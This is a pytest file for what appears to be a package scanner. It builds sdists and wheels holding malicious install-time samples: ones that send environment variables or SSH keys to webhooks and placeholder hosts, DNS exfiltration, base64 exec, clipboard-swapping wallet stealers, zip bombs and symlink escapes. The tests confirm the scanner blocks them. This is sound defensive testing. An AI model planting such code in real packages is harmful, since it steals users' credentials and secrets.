def test_an_sdists_setup_py_in_capitals_is_its_build_script(tmp_path: Path) -> None:
    """pip finds ``SETUP.PY`` as ``setup.py`` where names ignore case."""
    path = sdist(tmp_path, {"SETUP.PY": setup_py("import os\nos.system('id')")})
    signals = {(s.kind, s.file, s.role) for s in scan(path).signals}
    assert ("spawn", "setup.py", "install") in signals


@pytest.mark.parametrize(
    "other", ["demo-1.0/setup.py ", "demo-1.0/Setup.py", "demo-1.0/./setup.py"]
)
def test_two_tar_members_one_file_on_some_systems_are_refused(tmp_path: Path, other: str) -> None:
    """On Linux ``setup.py`` runs and ``setup.py `` is another file; on Windows they
    are one: which one runs depends on the system, so the archive is refused."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in [("demo-1.0/setup.py", b"import os\nos.system('id')\n"), (other, b"")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(buffer.getvalue())
    assert scan(path).level == "unreadable"


def test_in_tree_symlink_is_skipped_not_followed(tmp_path: Path) -> None:
    info = tarfile.TarInfo("demo-1.0/docs/README")
    info.type, info.linkname = tarfile.SYMTYPE, "../README"
    assert scan(_tar_with(tmp_path, info)).findings == ()


@pytest.mark.parametrize(
    ("compress", "suffix"),
    [(gzip.compress, ".tar.gz"), (bz2.compress, ".tar.bz2"), (lzma.compress, ".tar.xz")],
)
def test_a_build_script_in_a_second_compressed_stream_is_read(
    tmp_path: Path, compress: Callable[[bytes], bytes], suffix: str
) -> None:
    """pip's ``tarfile.open(path, "r:gz")`` reads every member of a gzip file (and
    every stream of a bzip2 or xz one): a tar split over two of them is one tar."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, text in [
            ("PKG-INFO", "Name: demo\n"),
            ("setup.py", setup_py("import os\nos.system('id')")),
        ]:
            data = text.encode()
            info = tarfile.TarInfo(f"demo-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    data = buffer.getvalue()  # (the first member: a 512-byte header and its data block)
    path = tmp_path / f"demo-1.0{suffix}"
    path.write_bytes(compress(data[:1024]) + compress(data[1024:]))
    signals = {(s.kind, s.file, s.role) for s in scan(path).signals}
    assert ("spawn", "setup.py", "install") in signals


def test_bytes_after_the_last_gzip_member_make_it_unreadable(tmp_path: Path) -> None:
    """As for pip, whose gzip reader refuses them."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("demo-1.0/setup.py")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"x=1\n"))
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(buffer.getvalue()) + b"more")
    assert scan(path).level == "unreadable"


def _tar_linking(tmp_path: Path, link: tarfile.TarInfo, files: dict[str, bytes]) -> Path:
    """A tar of ``files`` (under ``demo-1.0/``) and ``link``, after them."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"demo-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        archive.addfile(link)
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(buffer.getvalue())
    return path


@pytest.mark.parametrize(
    ("link", "target", "member", "role"),
    [
        ("setup.py", "notes.txt", "setup.py", "install"),
        ("demo/__init__.py", "../data.txt", "demo/__init__.py", "import"),
    ],
)
def test_a_link_named_as_code_is_read_as_its_target(
    tmp_path: Path, link: str, target: str, member: str, role: str
) -> None:
    """pip extracts an sdist's in-tree links; Python then runs the target's text as
    the file the link is named as (``python setup.py`` reads ``notes.txt``)."""
    info = tarfile.TarInfo(f"demo-1.0/{link}")
    info.type, info.linkname = tarfile.SYMTYPE, target
    body = setup_py("import os\nos.system('id')").encode()
    files = {target.removeprefix("../"): body, "PKG-INFO": b"Name: demo\n"}
    if link != "setup.py":
        files["setup.py"] = setup_py("").encode()
    signals = {(s.kind, s.file, s.role) for s in scan(_tar_linking(tmp_path, info, files)).signals}
    assert ("spawn", member, role) in signals


def test_a_package_folder_that_links_to_another_is_read_as_that_package(
    tmp_path: Path,
) -> None:
    """A build packages the files of ``docs/examples/`` as ``demo/`` when ``demo``
    links to that folder: they are the package's ``__init__.py``, at the import
    weight, not a documentation file."""
    info = tarfile.TarInfo("demo-1.0/demo")
    info.type, info.linkname = tarfile.SYMTYPE, "docs/examples"
    files = {
        "setup.py": setup_py("")
        .replace("version='1.0'", "version='1.0', packages=['demo']")
        .encode(),
        "docs/examples/__init__.py": b"import os\nos.system('id')\n",
    }
    signals = {(s.kind, s.file, s.role) for s in scan(_tar_linking(tmp_path, info, files)).signals}
    assert ("spawn", "demo/__init__.py", "import") in signals


def test_a_link_to_a_file_over_the_member_cap_is_over_it_too(tmp_path: Path) -> None:
    """``setup.py`` linked to a file too large to read is a ``setup.py`` too large
    to read (which blocks, as any install-time file over the cap does)."""
    info = tarfile.TarInfo("demo-1.0/setup.py")
    info.type, info.linkname = tarfile.SYMTYPE, "big.txt"
    path = _tar_linking(tmp_path, info, {"big.txt": b"x = 1\n" * 100})
    want = layout.wanted(layout.layout_of(path.name))
    read = archive_reader.read_archive(path, path.name, want, archive_reader.Limits(member=64))
    assert "demo-1.0/setup.py" in read.oversized
    assert "demo-1.0/setup.py" not in read.contents


def test_files_under_links_past_the_cap_refuse_the_archive(tmp_path: Path) -> None:
    """Links to a large folder cannot make the scan look at every file again and
    again: past ``MAX_ALIASES`` the archive is refused (it never stalls)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for i in range(300):
            info = tarfile.TarInfo(f"demo-1.0/data/f{i}.txt")
            archive.addfile(info, io.BytesIO(b""))
        for i in range(80):
            info = tarfile.TarInfo(f"demo-1.0/link{i}")
            info.type, info.linkname = tarfile.SYMTYPE, "data"
            archive.addfile(info)
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(buffer.getvalue())
    assert archive_reader.MAX_ALIASES < 300 * 80
    assert scan(path).level == "unreadable"


def test_a_hard_link_named_setup_py_is_read_as_its_target(tmp_path: Path) -> None:
    info = tarfile.TarInfo("demo-1.0/setup.py")
    info.type, info.linkname = tarfile.LNKTYPE, "demo-1.0/build.txt"
    files = {"build.txt": setup_py("import os\nos.system('id')").encode()}
    signals = {(s.kind, s.file, s.role) for s in scan(_tar_linking(tmp_path, info, files)).signals}
    assert ("spawn", "setup.py", "install") in signals


def _tar_of(tmp_path: Path, members: list[tuple[str, str]]) -> Path:
    """A tar of ``(name, link target)`` members: a symlink where a target is
    given, else a small regular file."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, link in members:
            info = tarfile.TarInfo(name)
            if link:
                info.type, info.linkname = tarfile.SYMTYPE, link
                archive.addfile(info)
            else:
                info.size = 6
                archive.addfile(info, io.BytesIO(b"x = 1\n"))
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(buffer.getvalue())
    return path


@pytest.mark.parametrize(
    "members",
    [
        # each link is inside the tree on its own; followed in turn, they leave it
        [("demo-1.0/a", ".."), ("demo-1.0/c", "a/../..")],
        [("demo-1.0/a", ".."), ("demo-1.0/up", "a"), ("demo-1.0/b", "up/../x")],
        # a member under a link is written wherever the link points
        [("demo-1.0/a", ".."), ("demo-1.0/a/b", "../x")],
        [("demo-1.0/a", "."), ("demo-1.0/a/evil.py", "")],
        # a loop of links
        [("demo-1.0/a", "b"), ("demo-1.0/b", "a"), ("demo-1.0/c", "a/x")],
    ],
)
def test_chains_of_links_that_leave_the_tree_are_refused(
    tmp_path: Path, members: list[tuple[str, str]]
) -> None:
    result = scan(_tar_of(tmp_path, members))
    assert result.level == "unreadable"
    assert [f.rule for f in result.findings] == ["unreadable-archive"]


def test_chains_of_links_inside_the_tree_are_skipped(tmp_path: Path) -> None:
    members = [
        ("demo-1.0/docs/README", "../README"),
        ("demo-1.0/latest", "docs"),
        ("demo-1.0/readme2", "latest/README"),
        ("demo-1.0/README", ""),
    ]
    assert scan(_tar_of(tmp_path, members)).findings == ()


def test_zip_bomb_duplicates_and_links_are_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb/zeros.bin", b"\x00" * (16 * 1024 * 1024))
    with pytest.raises(UnsafeArchive, match="expands"):
        read_archive(bomb, bomb.name, lambda name, size: "")
    assert scan(bomb).level == "unreadable"

    twice = tmp_path / "twice-1.0-py3-none-any.whl"
    with (
        pytest.warns(UserWarning, match="Duplicate name"),
        zipfile.ZipFile(twice, "w") as archive,
    ):
        archive.writestr("twice/__init__.py", "x = 1")
        archive.writestr("twice/__init__.py", "x = 2")
    assert "duplicate" in scan(twice).findings[0].message

    linked = tmp_path / "linked-1.0-py3-none-any.whl"
    with zipfile.ZipFile(linked, "w") as archive:
        info = zipfile.ZipInfo("linked/key")
        info.external_attr = (0o120777) << 16
        archive.writestr(info, "/home/user/.ssh/id_rsa")
    assert "link" in scan(linked).findings[0].message


def test_total_and_member_caps(tmp_path: Path) -> None:
    path = sdist(tmp_path, {"setup.py": "x = 1\n" * 100, "big.py": "y = 2\n" * 1000})
    with pytest.raises(UnsafeArchive, match="uncompressed"):
        read_archive(path, path.name, lambda n, s: "read", Limits(total=1000))
    archive = read_archive(path, path.name, lambda n, s: "read", Limits(member=1000))
    assert archive.oversized == ["demo-1.0/big.py"]
    assert "demo-1.0/setup.py" in archive.contents


def test_unreadable_archive_is_a_finding_not_clean(tmp_path: Path) -> None:
    path = tmp_path / "broken-1.0.tar.gz"
    path.write_bytes(b"\x1f\x8b\x08\x00 definitely not a gzip stream")
    result = scan(path)
    assert result.level == "unreadable"
    assert result.findings[0].rule == "unreadable-archive"
    other = tmp_path / "odd-1.0.rar"
    other.write_bytes(b"Rar!\x1a\x07\x00")
    assert scan(other).findings[0].rule == "unreadable-archive"


# --- the budget -------------------------------------------------------------------------


def test_budget_leaves_a_weak_note_but_reads_setup_py(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "setup.py": setup_py("import os\nos.system('powershell -c echo')"),
        "demo/__init__.py": "",
    }
    files.update({f"demo/m{i}.py": "x = 1\n" for i in range(20)})
    result = scan(sdist(tmp_path, files), budget=0.0)
    assert result.truncated
    assert result.level == "block"
    note = [f for f in result.findings if f.rule == "scan-incomplete"]
    assert note and note[0].weak


def test_a_padded_init_leaves_no_module_it_imports_unread(tmp_path: Path) -> None:
    # an __init__.py that costs the whole budget, then imports and calls a module
    # of its own whose function sends the environment: that module runs at import
    payload = (
        "import os, json, urllib.request\n"
        "def collect():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('http://127.0.0.1:9/c', data=body)\n"
    )
    init = "from ._impl import collect\n" + "".join(f"_C{i} = {i}\n" for i in range(40_000))
    files: dict[str, str | bytes] = {
        "demo/__init__.py": init + "collect()\n",
        "demo/_impl.py": payload,
    }
    result = scan(wheel(tmp_path, files), budget=0.05)
    assert result.level == "block"
    assert any(s.file == "demo/_impl.py" for s in result.signals)
    # and a module imported later still has its text read when the budget is spent
    files["demo/_impl.py"] = "from ._late import go\n"
    files["demo/_late.py"] = "x = 'https://discord.com/api/webhooks/1/abcdefghijklmnop'\n"
    late = scan(wheel(tmp_path, files, name="late-1.0"), budget=0.05)
    assert any(s.file == "demo/_late.py" for s in late.signals)


def test_an_import_graph_past_the_limit_blocks_and_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 100 modules, each importing the next and holding 10 KB of code: with the
    # limit past the budget lowered to what 2 of them cost, the rest are not read
    monkeypatch.setattr(scanner, "IMPORT_TIME_WORK", 30_000.0)
    filler = "".join(f"VALUE_{i} = {i}\n" for i in range(800))
    files: dict[str, str | bytes] = {"demo/__init__.py": "from . import m0\n"}
    for i in range(100):
        files[f"demo/m{i}.py"] = f"import os\nfrom . import m{i + 1}\n" + filler
    files["demo/m100.py"] = "x = 1\n"
    result = scan(wheel(tmp_path, files), budget=0.001)
    assert result.level == "block"
    assert any(
        s.kind == "unanalysed" and "imported at import time" in s.text for s in result.signals
    )
    # the same graph within the limit is read to its end, and is clean
    monkeypatch.undo()
    (tmp_path / "ok").mkdir()
    assert scan(wheel(tmp_path / "ok", files), budget=0.001).level == "clean"


def test_the_imports_of_a_module_read_without_a_parse() -> None:
    source = (
        "import os, sys as system\n"
        "from . import first\n"
        "from .inner import (\n    a,\n    b as c,\n)\n"
        "from pkg.sub import thing  # a comment\n"
        "def later():\n"
        "    from . import hidden\n"
    )
    found = module_imports(source)
    assert found == ("os", "sys", "first", "inner.a", "inner.b", "pkg.sub", "pkg.sub.thing")


def test_a_module_not_parsed_still_leads_to_what_it_imports(tmp_path: Path) -> None:
    # __init__ -> a (nothing to act on, read as text) -> b, whose module-level code
    # sends the environment: b runs at import whatever a looks like
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "from . import a\n",
        "demo/a.py": "from . import b\nNAME = 'a'\n",
        "demo/b.py": (
            "import os, requests\nrequests.post('http://127.0.0.1:9/e', json=dict(os.environ))\n"
        ),
    }
    result = scan(wheel(tmp_path, files), budget=0.0)
    assert result.level == "block"
    assert any(s.file == "demo/b.py" and s.role == "imported" for s in result.signals)
    assert not any(s.kind == "unanalysed" for s in result.signals)


# --- the rule ---------------------------------------------------------------------------


def _candidate(filename: str) -> Candidate:
    return Candidate(
        name=canonicalize_name("demo"),
        version=Version("1.0"),
        source=Source.INDEX,
        url=f"http://127.0.0.1:9/{filename}",
        filename=filename,
        sha256=None,
    )


def test_rule_reads_the_verified_artifact_and_yields_all_ids(tmp_path: Path) -> None:
    body = (
        "import base64, requests\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
        "requests.post('https://discord.com/api/webhooks/1/x', data=open('~/.ssh/id_rsa'))\n"
    )
    path = sdist(tmp_path, {"setup.py": setup_py(body)})
    ctx = Context(now=datetime.now(UTC), artifacts={path.name: path})
    found = list(InstallTimeCode().check(_candidate(path.name), None, ctx))
    assert {"obfuscated-code", "exfil-endpoint", "credential-access", "install-time-code"} <= {
        f.rule for f in found
    }
    assert all(not f.weak and f.score > 0 for f in found)

    lenient = Context(
        now=datetime.now(UTC),
        artifacts={path.name: path},
        thresholds={"install-time-code": {"block-score": 100.0, "warn-score": 1.0}},
    )
    assert all(f.weak for f in InstallTimeCode().check(_candidate(path.name), None, lenient))


def test_rule_is_silent_without_the_artifact() -> None:
    ctx = Context(now=datetime.now(UTC))
    assert list(InstallTimeCode().check(_candidate("demo-1.0.tar.gz"), None, ctx)) == []


def test_results_are_cached_per_file(tmp_path: Path) -> None:
    path = sdist(tmp_path, {"setup.py": setup_py("import os")})
    assert scan(path) is scan(path)


def test_scan_rules_describe_every_id() -> None:
    ids = [rule.id for rule in SCAN_RULES]
    assert ids[0] == "install-time-code"
    assert len(ids) == len(set(ids))
    assert {
        "obfuscated-code",
        "exfil-endpoint",
        "credential-access",
        "dropper",
        "bundled-binary",
        "unreadable-archive",
        "scan-incomplete",
    } <= set(ids)
    assert "pth-code" not in ids  # described by guard.rules.local.PthCode
    for rule in SCAN_RULES:
        assert rule.summary and rule.rationale
        # Detections block or warn; a scan that ran out of time is only recorded.
        expected = {Action.IGNORE} if rule.id == "scan-incomplete" else {Action.BLOCK, Action.WARN}
        assert rule.default_action in expected


def test_zip_members_not_read_count_only_towards_the_declared_cap(tmp_path: Path) -> None:
    """A wheel of large native libraries is not a bomb: what is not read is not
    decompressed, so only an absurd declared total is refused."""
    path = tmp_path / "native-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("native/__init__.py", "x = 1\n")
        archive.writestr("native/lib.so", b"\x7fELF" + bytes(4000))
    wanted = lambda n, s: "read" if n.endswith(".py") else "head"  # noqa: E731
    archive_read = read_archive(path, path.name, wanted, Limits(total=1000))
    assert "native/__init__.py" in archive_read.contents
    with pytest.raises(UnsafeArchive, match="declares more than"):
        read_archive(path, path.name, wanted, Limits(declared=1000))


def test_a_library_opening_a_configured_url_while_it_loads_only_warns(tmp_path: Path) -> None:
    """The shape of matplotlib's rc loading: module-level code reads a settings
    file through a helper that opens it as a URL when given one. A lone network
    call at import time warns; it takes something more to block."""
    init = (
        "import os\nimport urllib.request\n\n"
        "def _open(fname):\n"
        "    if fname.startswith(('http://', 'https://')):\n"
        "        return urllib.request.urlopen(fname)\n"
        "    return open(fname)\n\n"
        "settings = _open(os.path.join(os.path.dirname(__file__), 'demorc'))\n"
    )
    result = scan(wheel(tmp_path, {"demo/__init__.py": init}))
    assert result.level == "warn", result.findings
    sending = (
        init
        + "urllib.request.urlopen('https://93.184.216.34/c', data=os.uname().nodename.encode())\n"
    )
    assert scan(wheel(tmp_path, {"demo/__init__.py": sending})).level == "block"


# --- names follow Python's scopes ----------------------------------------------------


def _kinds(source: str) -> list[str]:
    return [h.kind for h in analyse(source).hits]


def test_a_namesake_in_another_function_is_not_what_exec_runs() -> None:
    source = (
        "import socket\n"
        "def client():\n"
        "    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    line = sock.recv(10).decode()\n"  # data from the network, in client()
        "    print(line)\n"
        "def prompt(stream):\n"
        "    line = stream.readline()\n"  # the line exec runs: prompt()'s own
        "    exec(compile(line + '\\n', '<prompt>', 'single'))\n"
    )
    assert "download-exec" not in _kinds(source)


def test_a_parameter_is_not_a_namesake_assigned_elsewhere() -> None:
    source = (
        "import socket\n"
        "def listen():\n"
        "    server = socket.socket()\n"
        "    return server\n"
        "def serve(server):\n"
        "    exec(server.makefile().readline())\n"
    )
    assert "download-exec" not in _kinds(source)


def test_downloaded_code_still_found_across_functions_and_module_level() -> None:
    through_global = (
        "import requests\n"
        "def fetch():\n"
        "    global code\n"
        "    code = requests.get('https://example.invalid/x').text\n"
        "def run():\n"
        "    exec(code)\n"
    )
    assert "download-exec" in _kinds(through_global)
    module_level = (
        "import requests\n"
        "code = requests.get('https://example.invalid/x').text\n"
        "def run():\n"
        "    exec(code)\n"
        "def other():\n"
        "    code = 'print(1)'\n"
        "    return code\n"
    )
    assert "download-exec" in _kinds(module_level)
    same_function = (
        "import urllib.request\n"
        "def run(url):\n"
        "    body = urllib.request.urlopen('https://example.invalid/x').read()\n"
        "    exec(body)\n"
    )
    assert "download-exec" in _kinds(same_function)


def test_a_name_written_backwards_weighs_what_it_hides() -> None:
    def hidden(source: str) -> list[float]:
        return [h.weight for h in analyse(source).hits if h.kind == "hidden-name"]

    # sys._getframe read backwards: hidden, but nothing the scan watches
    assert hidden("import sys\nf = getattr(sys, 'emarfteg_'[::-1])(1)\n") == [1.0]
    # os.system and exec read backwards: what droppers hide
    assert hidden("import os\ngetattr(os, 'metsys'[::-1])('id')\n") == [5.0]
    assert hidden("import builtins\ngetattr(builtins, 'cexe'[::-1])('x = 1')\n") == [5.0]


def test_mixed_scripts_count_only_with_a_letter_that_passes_for_latin() -> None:
    def tricks(source: str) -> list[str]:
        return [h.text for h in analyse(source).hits if h.kind == "homoglyph"]

    # Greek letters read as Greek: notation (microseconds, sigma), not disguise
    assert tricks("\u03bcs = 1\n\u03c3_x = 2\n") == []
    # a Cyrillic "a" in "path", a Cyrillic "c" in "chord": disguise
    assert tricks("p\u0430th = 1\n")
    assert tricks("\u0441hord = 1\n")


# --- covert channels and install hooks (guard/analysis/scan/python/covert.py) -----------


def _pairs(source: str) -> set[tuple[str, str]]:
    return {(h.rule, h.kind) for h in analyse(source).hits}


@pytest.mark.parametrize(
    "call",
    [
        "socket.gethostbyname(user + '.' + host + '.x.collect.invalid')",
        "socket.gethostbyname(f'{user}.{host}.collect.invalid')",
        "socket.getaddrinfo('{}.{}.collect.invalid'.format(user, host), 53)",
        "socket.gethostbyname('%s.collect.invalid' % user)",
    ],
)
def test_a_dns_lookup_of_a_built_name_under_a_domain_is_a_network_call(call: str) -> None:
    source = (
        f"import getpass, socket\nuser = getpass.getuser()\nhost = socket.gethostname()\n{call}\n"
    )
    hits = [h for h in analyse(source).hits if h.kind == "network"]
    assert len(hits) == 1 and "collect.invalid" in hits[0].text, hits
    assert ("install-time-code", "send-host-data") in _pairs(source)


@pytest.mark.parametrize(
    "call",
    [
        "socket.gethostbyname(socket.gethostname())",  # the host's own address
        "socket.gethostbyname(host)",  # a name the caller gives
        "socket.gethostbyname('pypi.org')",  # a plain name
        "socket.gethostbyname(f'{service}.default.svc.cluster.local')",  # cluster DNS
        "socket.getaddrinfo(f'{rev}.in-addr.arpa', None)",  # an address's name
        "socket.gethostbyname(f'{host}.lan')",
    ],
)
def test_ordinary_dns_lookups_are_no_network_call(call: str) -> None:
    source = f"import socket\nhost = 'h'\nservice = 's'\nrev = '1.0.0.127'\n{call}\n"
    assert not any(h.kind == "network" for h in analyse(source).hits), call


def test_a_dns_lookup_of_a_decoded_name_is_a_network_call() -> None:
    source = "import base64, socket\nsocket.gethostbyname(base64.b64decode('eC5pbnZhbGlk'))\n"
    assert ("install-time-code", "network") in _pairs(source)


@pytest.mark.parametrize(
    "command",
    [
        "base64.b64decode('ZWNobyBoaQ==').decode()",
        "bytes.fromhex('6563686f206869').decode()",
        "'ih ohce'[::-1]",
    ],
)
def test_a_process_running_a_decoded_command_is_decode_exec(command: str) -> None:
    source = f"import base64, os\nos.system({command})\n"
    assert ("obfuscated-code", "decode-exec") in _pairs(source)


def test_a_process_whose_output_is_decoded_is_no_decoded_command() -> None:
    source = (
        "import subprocess\n"
        "out = subprocess.check_output(['git', 'describe']).decode('utf-8')\n"
        "subprocess.run(['git', 'tag', out.strip()])\n"
    )
    assert ("obfuscated-code", "decode-exec") not in _pairs(source)


_HOOK = """
import os, subprocess, sys
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        {act}

setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
"""


@pytest.mark.parametrize(
    "act",
    ["subprocess.Popen(['ls', '/'])", "os.getlogin()", "open('/etc/demo.conf', 'w').write('x')"],
)
def test_an_install_override_that_acts_on_the_machine_blocks(tmp_path: Path, act: str) -> None:
    result = scan(sdist(tmp_path, {"setup.py": _HOOK.format(act=act)}))
    assert result.level == "block", result.findings
    assert any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)


@pytest.mark.parametrize(
    "act",
    [
        "subprocess.check_call([os.environ.get('CC', 'cc'), '--version'])",  # build tool
        "subprocess.check_call(self.compiler_command)",  # a computed command
        "subprocess.check_call([sys.executable, '-m', 'pip', '--version'])",
    ],
)
def test_an_install_override_that_builds_is_not_a_hook_act(tmp_path: Path, act: str) -> None:
    result = scan(sdist(tmp_path, {"setup.py": _HOOK.format(act=act)}))
    assert not any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)
    assert result.level != "block", result.findings


def test_a_program_run_outside_an_install_override_is_not_a_hook_act(tmp_path: Path) -> None:
    body = (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install"
        " import install\n\nclass Tool:\n    def run(self):\n        subprocess.run(['xcalc'])\n\n"
        "class PostInstall(install):\n    pass\n\n"
        "setup(name='demo', version='1.0', cmdclass={'install': PostInstall})\n"
    )
    result = scan(sdist(tmp_path, {"setup.py": body}))
    assert not any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)


@pytest.mark.parametrize(
    "call",
    [
        "requests.post(url, json={'mnemonic': words})",  # a key names it
        "requests.post(url, data=private_key)",  # the variable names it
        "requests.get(url, params={'k': self.privkey})",
    ],
)
def test_a_wallet_secret_sent_to_a_fixed_address_is_steal_send(call: str) -> None:
    source = (
        "import requests\nurl = 'https://collect.invalid/x'\n"
        f"def check(self, words, private_key):\n    {call}\n"
    )
    assert ("credential-access", "steal-send") in _pairs(source)


@pytest.mark.parametrize(
    "source",
    [
        # the address is the caller's (a node URL, a configured service)
        "import requests\ndef sign(node_url, private_key):\n"
        "    requests.post(node_url, json={'key': private_key})\n",
        "import requests\nclass C:\n    def send(self, private_key):\n"
        "        requests.post(self.base_url + '/sign', json={'key': private_key})\n",
        # nothing secret in the payload
        "import requests\ndef price(symbol):\n"
        "    requests.post('https://api.invalid/price', json={'symbol': symbol})\n",
        # the secret is only in the URL's path name, not sent
        "import requests\ndef docs(mnemonic):\n"
        "    requests.get('https://docs.invalid/mnemonic', timeout=3)\n",
    ],
)
def test_a_wallet_secret_not_sent_to_a_fixed_address_is_no_steal_send(source: str) -> None:
    assert ("credential-access", "steal-send") not in _pairs(source)


def test_exec_of_text_built_from_xored_characters_is_decode_exec() -> None:
    source = "s = ''\nfor a, b in zip(BLOB, KEY):\n    s += chr(ord(a) ^ ord(b))\nexec(s)\n"
    assert ("obfuscated-code", "decode-exec") in _pairs(source)


def test_exec_of_text_built_from_plain_characters_is_no_decode_exec() -> None:
    source = "s = ''\nfor c in 'abc':\n    s += chr(ord(c))\nexec(s)\n"
    assert ("obfuscated-code", "decode-exec") not in _pairs(source)


def test_an_imported_module_that_calls_its_own_function_is_read_in_full(tmp_path: Path) -> None:
    runner = (
        "import subprocess\n\ndef start():\n"
        "    return subprocess.Popen(['powershell', '-Command', 'Write-Output x'])\n\n"
        "_p = start()\n"
    )
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "from .runner import start\n",
        "demo/runner.py": runner,
    }
    result = scan(wheel(tmp_path, files))
    assert result.level == "block", result.findings
    assert any(s.kind == "spawn-shell" and s.role == "imported" for s in result.signals)


def test_an_imported_module_that_only_defines_the_function_stays_clean(tmp_path: Path) -> None:
    runner = (
        "import subprocess\n\ndef start():\n"
        "    return subprocess.Popen(['powershell', '-Command', 'Write-Output x'])\n"
    )
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "from .runner import start\n",
        "demo/runner.py": runner,
    }
    assert scan(wheel(tmp_path, files)).level != "block"


def test_a_script_written_in_the_tree_and_run_is_no_drop_run() -> None:
    source = (
        "import subprocess, sys\n"
        "with open('build/gen_version.py', 'w') as f:\n    f.write('x = 1')\n"
        "subprocess.check_call([sys.executable, 'build/gen_version.py'])\n"
    )
    assert ("dropper", "drop-run") not in _pairs(source)


def test_an_imported_module_probing_the_platform_at_import_stays_clean(tmp_path: Path) -> None:
    # urllib3's shape: a helper called at import opens a local socket to probe IPv6
    probe = (
        "import socket\n\ndef _has_ipv6(host):\n"
        "    sock = socket.socket(socket.AF_INET6)\n    sock.bind((host, 0))\n    return True\n\n"
        "HAS_IPV6 = _has_ipv6('::1')\n"
    )
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "from .probe import HAS_IPV6\n",
        "demo/probe.py": probe,
    }
    assert scan(wheel(tmp_path, files)).level == "clean"


_MAIN_GUARDED = """
import urllib.request

def fetch():
    urllib.request.urlopen("https://example.invalid/x")

if __name__ == "__main__":
    fetch()
"""


def test_main_guard_runs_only_when_the_file_runs_as_main() -> None:
    # a build runs setup.py as __main__; an imported module's main guard never runs
    imported = [h for h in analyse(_MAIN_GUARDED).hits if h.kind == "network"]
    as_main = [h for h in analyse(_MAIN_GUARDED, as_main=True).hits if h.kind == "network"]
    assert [h.deferred for h in imported] == [True]
    assert [h.deferred for h in as_main] == [False]


def test_a_class_calling_its_own_get_credentials_reads_no_cloud_credentials() -> None:
    """``self.get_credentials()`` of the file's own class (a plugin's password
    look-up) is no cloud SDK's; a session's call still is."""
    own = (
        "class Handler:\n"
        "    def get_credentials(self, realm):\n"
        "        return realm, None\n"
        "    def use(self):\n"
        "        return self.get_credentials('x')\n"
    )
    assert [h.kind for h in analyse(own).hits] == []
    sdk = own + "import boto3\n\ndef keys():\n    return boto3.Session().get_credentials()\n"
    assert [h.kind for h in analyse(sdk).hits] == ["cloud-credentials"]
    other = own.replace("class Handler:", "class Other:\n    pass\n\nclass Handler:").replace(
        "    def get_credentials(self, realm):\n        return realm, None\n", "    pass\n"
    )
    assert [h.kind for h in analyse(other).hits] == ["cloud-credentials"]


_TWO_SPAWNS = """import subprocess
import sys

def run(args):
    return subprocess.Popen([sys.executable, *args])

def other(args):
    return subprocess.Popen(args)
"""


def test_a_file_read_for_its_called_functions_reads_those_only() -> None:
    """Without ``functions`` (a module the quick look finds nothing risky in), the
    bodies analysed are those of the functions other files call, not the rest."""
    called = analyse(_TWO_SPAWNS, functions=False, called=frozenset({"run"}))
    assert {(h.kind, h.line, h.deferred) for h in called.hits if h.kind == "process"} == {
        ("process", 5, False)
    }
    every = analyse(_TWO_SPAWNS, functions=True, called=frozenset({"run"}))
    assert {(h.line, h.deferred) for h in every.hits if h.kind == "process"} == {
        (5, False),
        (8, True),
    }


_CLIPPERS = {
    "win32": (
        "import win32clipboard\nETH = '0x' + 'ab' * 20\n"
        "def swap():\n    win32clipboard.OpenClipboard()\n"
        "    text = win32clipboard.GetClipboardData()\n"
        "    if text.startswith('0x') and len(text) == 42:\n"
        "        win32clipboard.SetClipboardText('0x0000000000000000000000000000000000000000')\n"
    ),
    "tkinter": (
        "import re, tkinter\nroot = tkinter.Tk()\n"
        "def swap():\n    text = root.clipboard_get()\n"
        "    if re.match(r'^T[1-9A-HJ-NP-Za-km-z]{33}$', text):\n"
        "        root.clipboard_clear()\n        root.clipboard_append(MINE)\n"
    ),
    "xclip": (
        "import re, subprocess\n"
        "def swap():\n"
        "    text = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o'])\n"
        "    if re.match(rb'^0x[a-fA-F0-9]{40}$', text):\n"
        "        subprocess.run(['xclip', '-selection', 'clipboard'], input=MINE)\n"
    ),
    "pbpaste": (
        "import re, subprocess\n"
